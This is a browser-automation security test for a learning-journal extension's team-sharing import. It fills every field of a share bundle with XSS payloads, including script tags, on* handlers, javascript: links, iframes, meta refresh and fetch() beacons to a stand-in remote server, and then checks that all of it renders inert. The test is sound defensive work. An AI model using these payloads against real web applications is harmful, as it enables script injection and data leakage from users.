/**
 * A hostile share bundle: scripts, on* handlers, `javascript:` links and remote images in every
 * text and HTML field (display name, competency names, titles, URLs, excerpts, passages, notes,
 * takeaways, plans, evidence, evidence links, tags, sprint goals, reflections, article bodies),
 * imported and browsed on every team page: nothing runs, nothing loads from the "remote" server.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ShareBundle } from '../../storage/exchange-schemas';
import { type ExtensionSession, launchExtension } from '../support/chromium';
import { type FixtureServer, serve } from '../support/server';
import { shareBundle, sharedEntry, sharedReflection, sharedSprint, uuid } from '../support/team-bundles';

let session: ExtensionSession;
let remote: FixtureServer;
let journal: Page;
const dialogs: string[] = [];

const LEARNER = uuid(1, 0xbad);
const COMPETENCY = uuid(3, 0xbad);

/** Text that would run or load something if it were ever parsed as HTML or used as a URL. */
function payload(r: string, field: string): string {
  return (
    `${field}<script>window.__pwned='${field}'</script>` +
    `<img src="${r}/${field}.png" onerror="window.__pwned='${field}';fetch('${r}/beacon?${field}')">` +
    `<a href="javascript:window.__pwned='${field}'">${field}-link</a><svg onload="window.__pwned='${field}'"></svg>`
  );
}

/** For fields capped at 120 or 200 characters (names, categories, site name). */
function shortPayload(r: string, field: string): string {
  return `${field}<img src=${r}/i onerror=alert(1)><script>alert(2)</script>`;
}

function hostileBody(r: string): string {
  return `<p>Body text, Hostilemarker.</p>
<script>window.__pwned = 'body-script'; fetch('${r}/beacon?body-script')</script>
<p><img src="${r}/body-img.png" alt="A diagram" onload="window.__pwned = 'onload'"></p>
<p><img src="${r}/broken.png" onerror="window.__pwned = 'onerror'; alert('onerror')"></p>
<p><img alt="Responsive" srcset="${r}/srcset.png 2x"></p>
<picture><source srcset="${r}/picture.webp"><img src="${r}/picture.png" alt="Picture"></picture>
<div style="background-image: url('${r}/inline-style.png')">Styled</div>
<style>@import url('${r}/import.css');</style><link rel="stylesheet" href="${r}/body.css">
<iframe src="${r}/frame.html" title="frame"></iframe><object data="${r}/object.bin"></object><embed src="${r}/embed.bin">
<video poster="${r}/poster.png" src="${r}/video.mp4"></video><audio src="${r}/audio.mp3" autoplay></audio>
<form action="${r}/form"><input autofocus onfocus="window.__pwned = 'onfocus'"><button formaction="${r}/formaction">Go</button></form>
<details open ontoggle="window.__pwned = 'ontoggle'"><summary>More</summary></details>
<a href="javascript:alert('link')">A javascript link</a> <a href="https://example.org/safe">a safe one</a>
<a href="${r}/tracked" ping="${r}/ping">A tracked link</a>
<meta http-equiv="refresh" content="0;url=${r}/refresh"><base href="${r}/">`;
}

function hostileBundle(r: string): ShareBundle {
  const p = (field: string) => payload(r, field);
  return shareBundle(LEARNER, shortPayload(r, 'displayName'), {
    period: { from: '2026-03-02', to: '2026-03-15' },
    options: {
      kinds: ['clips', 'notes', 'reflections', 'sprints'],
      competencyIds: [COMPETENCY],
      includePrivateNotes: true,
      includeBodies: true,
    },
    competencies: [{ id: COMPETENCY, name: shortPayload(r, 'competencyName'), category: shortPayload(r, 'competencyCategory') }],
    entries: [
      sharedEntry(uuid(4, 1), '2026-03-03', {
        url: `javascript:window.__pwned='url';fetch('${r}/beacon?url')`,
        title: p('title'),
        siteName: shortPayload(r, 'siteName'),
        excerpt: p('excerpt'),
        selectionText: p('selectionText'),
        bodyHtml: hostileBody(r),
        note: p('note'),
        takeaway: p('takeaway'),
        applyPlan: p('applyPlan'),
        applied: { at: Date.parse('2026-03-05T10:00:00Z'), evidence: p('evidence'), link: `javascript:window.__pwned='evidenceLink'` },
        tags: [p('tag').slice(0, 64)],
        competencyIds: [COMPETENCY],
      }),
      sharedEntry(uuid(4, 2), '2026-03-04', {
        kind: 'note',
        url: ` JaVaScRiPt:alert('caps')`,
        title: p('title2'),
        note: p('note2'),
        applied: { at: Date.parse('2026-03-06T10:00:00Z'), evidence: p('evidence2'), link: `${r}/evidence-link` },
        competencyIds: [COMPETENCY],
      }),
    ],
    sprints: [sharedSprint(uuid(5, 1), '2026-03-03', 15, { goal: p('goal'), competencyId: COMPETENCY })],
    reflections: [
      sharedReflection(uuid(6, 1), '2026-03-03', {
        learned: p('learned'),
        didntWork: p('didntWork'),
        tryNext: p('tryNext'),
        competencyId: COMPETENCY,
      }),
    ],
  });
}

beforeAll(async () => {
  remote = await serve(() => ({ type: 'text/plain', body: 'ok' }));
  session = await launchExtension();
  journal = await session.context.newPage();
  journal.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await journal.goto(session.url('journal.html#/team'));
  await journal.evaluate(() => {
    const log: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = log;
    document.addEventListener('securitypolicyviolation', (event) => log.push(`${event.effectiveDirective} ${event.blockedURI}`));
  });
});

afterAll(async () => {
  await session?.close();
  await remote?.close();
});

/** Waits until the remote server has seen no new request for `quietMs`. */
async function settle(quietMs = 400): Promise<void> {
  let seen = -1;
  while (seen !== remote.requests.length) {
    seen = remote.requests.length;
    await new Promise((resolve) => setTimeout(resolve, quietMs));
  }
}

/** Opens every <details>, fires the events handlers wait for, then checks nothing ran or loaded. */
async function expectInert(page: Page): Promise<void> {
  await page.evaluate(async () => {
    for (const details of document.querySelectorAll('details')) details.open = true;
    for (const element of document.querySelectorAll('main *')) {
      for (const type of ['mouseover', 'focus', 'toggle', 'load', 'error']) element.dispatchEvent(new Event(type, { bubbles: true }));
    }
    await new Promise((resolve) => setTimeout(resolve, 300));
  });
  await settle();
  const state = await page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: string }).__pwned,
    // Parsing the hostile markup in DOMPurify's inert document reports its inline handlers,
    // styles and <base> as blocked (the document inherits our CSP): nothing ran there. What must
    // never appear is an attempt to load anything.
    violations: (window as unknown as { __violations: string[] }).__violations.filter(
      (line) => !line.endsWith(' inline') && !line.startsWith('base-uri '),
    ),
    handlers: [...document.querySelectorAll('main *')].flatMap((el) =>
      [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name),
    ),
    badLinks: [...document.querySelectorAll('main a[href]')]
      .map((a) => a.getAttribute('href') ?? '')
      .filter((href) => !/^(https?:|#)/.test(href)),
    remoteSources: [...document.querySelectorAll('main [src], main [srcset], main [poster], main [data]')].map((el) =>
      el.outerHTML.slice(0, 120),
    ),
    dangerous: document.querySelectorAll(
      'main script, main iframe, main object, main embed, main style, main link, main form, main svg:not([role="img"]):not(.shared-kind > .kind-icon), main meta, main base',
    ).length,
  }));
  expect(state).toEqual({ pwned: undefined, violations: [], handlers: [], badLinks: [], remoteSources: [], dangerous: 0 });
  expect(remote.requests).toEqual([]);
  expect(dialogs).toEqual([]);
}

describe('a hostile share bundle', () => {
  it('is imported, and the team list shows its fields as text', async () => {
    await journal.getByLabel('Import share files').setInputFiles({
      name: `<img src="${remote.origin}/filename.png" onerror="alert(1)">.json`,
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(hostileBundle(remote.origin))),
    });
    await expect
      .poll(async () => `${await journal.getByRole('status').allTextContents()} ${await journal.getByRole('alert').allTextContents()}`)
      .toContain('added (2 captures, 1 sprints, 1 reflections)');
    // Shown literally: the markup is text, not elements.
    expect(await journal.locator('table.team-table').first().textContent()).toContain(shortPayload(remote.origin, 'displayName'));
    expect(await journal.locator('table.team-table').nth(1).textContent()).toContain(shortPayload(remote.origin, 'competencyName'));
    await expectInert(journal);
  });

  it('the person page renders every field inert, the article body sanitized without remote images', async () => {
    await journal.locator('table.team-table').first().locator('tbody th a').click();
    await journal.locator('.team-person').waitFor();
    const text = (await journal.locator('.team-person').textContent()) ?? '';
    for (const field of [
      'title',
      'excerpt',
      'selectionText',
      'note',
      'takeaway',
      'applyPlan',
      'evidence',
      'goal',
      'learned',
      'didntWork',
      'tryNext',
      'title2',
      'evidence2',
    ]) {
      expect(text).toContain(`${field}<script>window.__pwned='${field}'</script>`);
    }
    await journal.locator('details.shared-body summary').first().click();
    expect(await journal.locator('.article-body').first().textContent()).toContain('Body text, Hostilemarker.');
    expect(await journal.locator('.article-body a[href="https://example.org/safe"]').getAttribute('rel')).toBe('noopener noreferrer');
    // A web evidence link stays a link (never followed by rendering); a javascript: one is text.
    expect(await journal.locator(`a[href="${remote.origin}/evidence-link"]`).first().getAttribute('target')).toBe('_blank');
    expect(await journal.locator('.unsafe-link').first().textContent()).toContain('javascript:');
    await expectInert(journal);
  });

  it('comments and the feedback export work with a hostile name, and the file name is safe', async () => {
    const comment = payload(remote.origin, 'comment');
    await journal.getByRole('button', { name: 'Add comment (the whole period)' }).click();
    await journal.getByLabel('Comment on the whole period').fill(comment);
    await journal.getByRole('button', { name: 'Save comment' }).click();
    await expect.poll(() => journal.locator('.comment-text').allTextContents()).toEqual([comment]);
    const [download] = await Promise.all([
      journal.waitForEvent('download'),
      journal.getByRole('button', { name: 'Export feedback' }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.commonplace-feedback\.json$/);
    await expectInert(journal);
  });

  it('the competency page renders inert', async () => {
    await journal.locator('.team-person table.team-table tbody th a').first().click();
    await journal.locator('.team-competency').waitFor();
    expect(await journal.locator('.team-competency h1').textContent()).toBe(shortPayload(remote.origin, 'competencyName'));
    expect(await journal.locator('.team-competency').textContent()).toContain("evidence2<script>window.__pwned='evidence2'</script>");
    await expectInert(journal);
  });
});
